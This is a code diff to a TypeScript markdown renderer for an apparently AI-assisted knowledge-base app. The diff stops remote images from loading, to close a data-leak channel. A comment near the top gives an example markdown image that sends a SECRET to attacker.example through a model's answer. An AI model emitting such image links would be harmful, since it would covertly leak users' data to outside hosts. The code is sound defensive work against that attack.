@@ -3,6 +3,12 @@
 // then sanitised by `sanitize-html` as a second line of defence. `kb://` URIs become links that
 // open the file's preview. In an answer, a citation (`kb://users/demo/a.md @120`) is a link only
 // when the turn read that file (`cite` says so): it opens the preview in place at the offset.
+//
+// Images load only from this server: a workspace file (a `kb://` URI, or a path relative to the
+// previewed file) through the raw-content URL, a same-origin path, or a `data:image/…` URI. A
+// remote image would be fetched with no click — `![x](https://attacker.example/?d=SECRET)` in a
+// model answer is an exfiltration channel — so it becomes a link the user may choose to open.
+// The CSP (`img-src 'self' data:`) refuses remote images too.
 import { Marked, type TokenizerAndRendererExtension } from 'marked'
 import sanitizeHtml from 'sanitize-html'
 
@@ -57,18 +63,74 @@ function kbUriExtension(cite: CitationCheck | undefined): TokenizerAndRendererEx
   }
 }
 
-const markdownOf = (cite: CitationCheck | undefined) =>
-  new Marked({
-    gfm: true,
-    async: false,
-    renderer: { html: ({ text }) => escapeHtml(text) },
-    extensions: [kbUriExtension(cite)],
-  })
+/** The raw bytes of a workspace file, as this server serves them (the caller's own files only). */
+export function rawContentHref(uri: string): string {
+  return `/api/v1/workspace/raw?uri=${encodeURIComponent(uri)}`
+}
+
+const DATA_IMAGE = /^data:image\/(png|jpeg|gif|webp|avif|svg\+xml)[;,]/i
+const HAS_SCHEME = /^[a-z][a-z0-9+.-]*:/i
+
+/**
+ * Where an image may load from, or undefined when it would leave this server. Browsers drop tabs
+ * and newlines inside URLs and read `\` as `/`, so anything holding those (or spaces, controls)
+ * is refused rather than interpreted.
+ */
+export function localImageSource(href: string, { baseUri }: { baseUri?: string | undefined } = {}): string | undefined {
+  if (/[\u0000-\u0020\\\u007f]/.test(href) || href === '') return undefined
+  if (/^kb:\/\//i.test(href)) return rawContentHref(href)
+  if (DATA_IMAGE.test(href)) return href
+  if (HAS_SCHEME.test(href) || href.startsWith('//')) return undefined
+  if (href.startsWith('/')) return href
+  if (!baseUri) return undefined
+  try {
+    const resolved = new URL(href, baseUri)
+    return resolved.protocol === 'kb:' ? rawContentHref(resolved.href) : undefined
+  } catch {
+    return undefined
+  }
+}
+
+function hostOf(href: string): string | undefined {
+  try {
+    return new URL(href).host || undefined
+  } catch {
+    return undefined
+  }
+}
+
+// Set only for the duration of one synchronous `parse` (see renderMarkdown).
+let imageBaseUri: string | undefined
+
+const markdownOf = (cite: CitationCheck | undefined) => new Marked({
+  gfm: true,
+  async: false,
+  renderer: {
+    html: ({ text }) => escapeHtml(text),
+    image: ({ href, title, text }) => {
+      const source = localImageSource(href, { baseUri: imageBaseUri })
+      const titleAttr = title ? ` title="${escapeHtml(title)}"` : ''
+      if (source) return `<img src="${escapeHtml(source)}" alt="${escapeHtml(text)}"${titleAttr}>`
+      const host = hostOf(href)
+      const label = `External image, not loaded: ${text || href}${host ? ` (${host})` : ''}`
+      return `<a class="external-image" href="${escapeHtml(href)}" title="${escapeHtml(title ?? href)}">${escapeHtml(label)}</a>`
+    },
+  },
+  extensions: [kbUriExtension(cite)],
+})
 
 const previewMarkdown = markdownOf(undefined)
 
-export function renderMarkdown(source: string): string {
-  return sanitized(previewMarkdown.parse(source, { async: false }))
+/** `baseUri`: the kb:// URI of the file being previewed, so its relative images load from its directory. */
+export function renderMarkdown(source: string, { baseUri }: { baseUri?: string | undefined } = {}): string {
+  imageBaseUri = baseUri
+  let html: string
+  try {
+    html = previewMarkdown.parse(source, { async: false })
+  } finally {
+    imageBaseUri = undefined
+  }
+  return sanitized(html)
 }
 
 /** An answer's renderer: citations of files the turn read are links to the passage, others plain text. */
@@ -90,16 +152,17 @@ function sanitized(html: string): string {
       input: ['type', 'checked', 'disabled'],
     },
     allowedSchemes: ['http', 'https', 'mailto'],
-    allowedSchemesByTag: { img: ['https', 'data'] },
+    allowedSchemesByTag: { img: ['data'] }, // plus same-origin paths: never http(s) to elsewhere
+    allowProtocolRelative: false,
     transformTags: {
       a: (tagName, { class: className, ...attribs }) =>
         className === 'kb-link kb-cite'
           ? { tagName, attribs: { ...attribs, class: className } } // opens in place, same tab
           : className === 'kb-link'
             ? { tagName, attribs: { ...attribs, class: className, target: '_blank' } }
-            : { tagName, attribs: { ...attribs, rel: 'noopener noreferrer', target: '_blank' } },
+            : { tagName, attribs: { ...attribs, ...(className === 'external-image' ? { class: className } : {}), rel: 'noopener noreferrer', target: '_blank' } },
       input: (tagName, attribs) => ({ tagName, attribs: attribs.type === 'checkbox' ? { ...attribs, disabled: '' } : {} }),
     },
-    allowedClasses: { code: [/^language-[\w-]+$/], a: ['kb-link', 'kb-cite'], span: ['kb-ref'] },
+    allowedClasses: { code: [/^language-[\w-]+$/], a: ['kb-link', 'kb-cite', 'external-image'], span: ['kb-ref'] },
   })
 }
